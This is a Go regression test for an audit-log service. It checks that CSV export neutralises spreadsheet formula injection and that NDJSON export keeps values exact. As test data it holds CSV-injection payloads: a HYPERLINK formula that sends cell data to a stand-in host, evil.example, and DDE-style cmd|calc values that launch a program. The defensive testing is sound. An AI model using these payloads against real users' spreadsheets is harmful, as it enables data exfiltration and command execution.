package integration

import (
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestAPIExportCSVNeutralizesFormulas is the regression test of issue 14, item 5: a
// cell a spreadsheet would run as a formula (starting with =, +, -, @, tab or CR) is
// exported with a leading single quote, and every cell is quoted (OWASP's advice on
// CSV injection). The NDJSON export keeps the exact values.
func TestAPIExportCSVNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	s := startServer(t, serveOpts{})
	p := s.newProject("csv")
	dangerous := map[string]string{
		"action":    `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"actorId":   "+1+cmd|' /C calc'!A0",
		"targetId":  "-2+3",
		"requestId": "@SUM(1+1)*cmd|' /C calc'!A0",
		"sessionId": "\t=1+1",
		"model":     "\r=1+1",
		"toolName":  `plain, with "quotes"`,
	}
	s.mustPost(p.key["log:write"], map[string]any{
		"action":    dangerous["action"],
		"actor":     map[string]any{"type": "user", "id": dangerous["actorId"]},
		"target":    map[string]any{"type": "doc", "id": dangerous["targetId"]},
		"requestId": dangerous["requestId"],
		"sessionId": dangerous["sessionId"],
		"model":     dangerous["model"],
		"toolName":  dangerous["toolName"],
	})
	file := filepath.Join(t.TempDir(), "e.csv")
	res, complete := s.download(p.key["log:export"], "/export?format=csv", file)
	if res.StatusCode != http.StatusOK || !complete {
		t.Fatalf("CSV export: %d, complete %v", res.StatusCode, complete)
	}
	raw, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, file)
	if len(rows) != 2 {
		t.Fatalf("CSV has %d rows, want header + 1", len(rows))
	}
	for col, value := range dangerous {
		i := slices.Index(rows[0], col)
		if i < 0 {
			t.Fatalf("no column %q in %q", col, rows[0])
		}
		want := value
		if strings.ContainsAny(value[:1], "=+-@\t\r") {
			want = "'" + value
		}
		if got := rows[1][i]; got != want {
			t.Errorf("column %s: %q, want %q", col, got, want)
		}
	}
	// Every cell is quoted: each line starts and ends with a quote.
	for i, line := range strings.Split(strings.TrimSuffix(string(raw), "\n"), "\n") {
		if !strings.HasPrefix(line, `"`) {
			t.Fatalf("line %d does not start with a quoted cell: %.80q", i+1, line)
		}
	}
	// Cells that start safely are unchanged, leading quote and all.
	if i := slices.Index(rows[0], "sequence"); rows[1][i] != "1" {
		t.Errorf("sequence cell %q, want 1", rows[1][i])
	}
	// The NDJSON export is exact.
	ndjson := filepath.Join(t.TempDir(), "e.ndjson")
	if res, complete := s.download(p.key["log:export"], "/export?format=json", ndjson); res.StatusCode != http.StatusOK || !complete {
		t.Fatalf("NDJSON export: %d, complete %v", res.StatusCode, complete)
	}
	recs := exportLines(t, ndjson)
	if len(recs) != 1 || !strings.Contains(string(recs[0].Payload), `"action":"=HYPERLINK(`) {
		t.Fatalf("NDJSON export changed the values: %d records", len(recs))
	}
}
